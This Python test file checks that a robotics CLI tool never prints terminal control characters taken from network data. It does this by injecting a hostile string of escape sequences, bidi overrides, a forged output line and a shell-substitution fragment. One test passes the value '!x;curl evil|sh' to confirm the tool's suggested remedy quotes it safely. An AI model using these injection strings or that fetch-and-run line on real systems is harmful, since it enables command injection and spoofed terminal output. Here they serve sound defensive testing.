"""Text from the network that would steer the terminal: no command prints it as it is."""

from __future__ import annotations

import shlex
import time
import tomllib
import unicodedata
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import msgpack
import pytest
import zenoh

from tests.integration.conftest import a_router
from tests.support.listening import open_client
from tests.support.processes import START_S, Program
from tests.support.standing_in import StandIn
from tests.support.typist import quick_zv, zv
from tests.support.waiting import wait_until

FORGED = "forged_row running"
HOSTILE = f"\x1b]0;t\x07\x1b[2J\x9b31m\u202e\u2066\r\n{FORGED}\u2028\u0085\x0b\x7f!x;curl\t'$(y)'"
KEY = "vision/front/image/compressed"
NODE = "tracker_front"


def offending(text: str) -> set[str]:
    """Return the characters that could steer a terminal; a line end of ours could not."""
    steering = {"Cc", "Cf", "Cs", "Co", "Zl", "Zp"}
    found = {each for each in text if unicodedata.category(each) in steering and each != "\n"}
    if any(line.lstrip().startswith(FORGED) for line in text.split("\n")):
        found.add("\n")
    return found


class Impostor(StandIn):
    """Says hostile text wherever a text may stand, as a node and under a hostile name too."""

    def __init__(self, session: zenoh.Session) -> None:
        known = {"type": "str", "value": HOSTILE, "default": HOSTILE, "unit": HOSTILE}
        parameter = {"node": NODE, "name": HOSTILE, "description": HOSTILE, **known}
        limited = parameter | {"name": "low", "choices": [HOSTILE]}
        super().__init__(
            session,
            NODE,
            second_s=0.05,
            health={"level": 2, "message": HOSTILE, "counters": {HOSTILE: 7}},
            counters=lambda s: {"received": int(90 * s), "dropped." + HOSTILE: int(80 * s)},
            parameters={"low": limited, "high": parameter},
            service="tracker",
            cameras=[HOSTILE],
            version=HOSTILE,
            host=HOSTILE,
            publishes=[KEY, f"vision/front/{HOSTILE}"],
            subscribes=[HOSTILE, f"vision/a/{HOSTILE}"],
        )
        said = {"node": NODE, "revision": 1, "parameters": [limited, parameter]}
        refused = {"error": HOSTILE, "allowed": HOSTILE}
        self._reply(session, f"@vision/param/{NODE}", said)
        self._reply(session, f"@vision/set/{NODE}", said, refused)
        self._reply(session, KEY, {HOSTILE: HOSTILE, "a": [{HOSTILE: [HOSTILE]}]})
        self._reply(session, "@vision/param/edge_front", None)
        tokens = session.liveliness()
        names = ["edge_front", HOSTILE.replace("$", "")]
        self._kept += [tokens.declare_token(f"@vision/node/{name}") for name in names]

    def _reply(
        self, session: zenoh.Session, key: str, said: Any, refused: dict[str, str] | None = None
    ) -> None:
        def on_query(query: zenoh.Query) -> None:
            with query:
                if said is None:
                    query.reply_err(HOSTILE.encode())
                elif query.payload is not None and refused:
                    query.reply_err(msgpack.packb(refused))
                else:
                    encoding = f"application/msgpack;vision.{HOSTILE}.v1"
                    query.reply(key, msgpack.packb(said), encoding=encoding)

        handler = zenoh.handlers.Callback(on_query, indirect=False)
        self._kept.append(session.declare_queryable(key, handler))


@pytest.fixture(scope="module")
def endpoint(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    with (
        a_router(tmp_path_factory.mktemp("router")) as router,
        open_client(router.endpoint) as session,
    ):
        impostor = Impostor(session)
        yield router.endpoint
        del impostor


@pytest.mark.parametrize(
    "words",
    [
        "node list",
        "node list --json",  # all write JSON the same way
        "node info *",
        "top --once",
        "doctor configs/edge.toml --for 1.2",
        "param list",
        f"param get {NODE}",
        f"param get {NODE} low",
        f"param get {NODE} lov",
        "param get edge_front",
        "param get nobody",
        f"param describe {NODE}",
        f"param set {NODE} low=1",
        f"param dump {NODE}",
        "topic list --window 0.3",
        f"topic info {KEY} --window 0.3",
        f"topic echo {KEY} --once",
        f"topic echo {KEY} --once --field nothing",
        "topic echo vision/none --for 0.1",
        f"snapshot {KEY}",
    ],
)
def test_no_command_prints_control_characters_of_others(endpoint: str, words: str):
    done = quick_zv(endpoint, *words.split())
    assert (done.stdout + done.stderr).strip()
    assert done.returncode in (0, 1, 2), done.stderr
    assert offending(done.stdout) == set()
    assert offending(done.stderr) == set()


@pytest.mark.parametrize("words", [f"topic echo {KEY} --csv", "topic hz vision/**", "top"])
def test_no_command_that_watches_prints_control_characters_of_others(
    endpoint: str, client: zenoh.Session, words: str, tmp_path: Path
):
    arguments = [*words.split(), "--connect", endpoint]
    header = {"camera": "front", "epoch": 1, "stamp_ns": time.time_ns(), "node": HOSTILE}
    header |= {"width": 6, "height": 4}
    message = msgpack.packb({"text": HOSTILE, HOSTILE: 1})
    with Program(arguments, tmp_path, "watching", forked="tests.support.programs.quick_zv") as zv:
        for seq in range(10_000):
            attachment = msgpack.packb(header | {"seq": seq})
            client.put(KEY, message, encoding="application/msgpack", attachment=attachment)
            if zv.output.count("\n") > 3:
                break
            time.sleep(0.02)
        zv.interrupt()
        assert offending(zv.output + zv.complaints) == set()
        assert "u202e" in zv.output


def test_zv_metrics_logs_no_control_characters_of_others(
    endpoint: str, client: zenoh.Session, tmp_path: Path
):
    arguments = ["metrics", "--listen", "127.0.0.1:0", "--connect", endpoint]
    with Program(arguments, tmp_path, "metrics", forked="tests.support.programs.quick_zv") as zv:
        zv.lines("http://.*")

        def complained() -> bool:
            client.put(f"@vision/diagnostics/{NODE}", msgpack.packb({HOSTILE: HOSTILE}))
            return "dropped a sample" in zv.complaints

        wait_until(complained, START_S)
        assert offending(zv.complaints) == set()


def test_a_dump_of_hostile_names_and_values_holds_them_and_nothing_else(endpoint: str):
    done = zv(endpoint, "param", "dump", NODE)
    assert tomllib.loads(done.stdout) == {"low": HOSTILE, HOSTILE: HOSTILE}


def test_what_the_doctor_advises_is_safe_to_paste(remedy: Callable[[str], str]):
    words = shlex.split(remedy("!x;curl evil|sh"))
    assert words[words.index("set") + 1] == "!x;curl evil|sh"


@pytest.fixture
def remedy() -> Callable[[str], str]:
    from tests.support.diagnosing import observation
    from tests.support.node_states import node_state
    from zv.tools.doctor.remedies import remedy_for

    def of(name: str) -> str:
        node = node_state(name)
        return remedy_for("stale", node, observation(node)).partition(": ")[2]

    return of
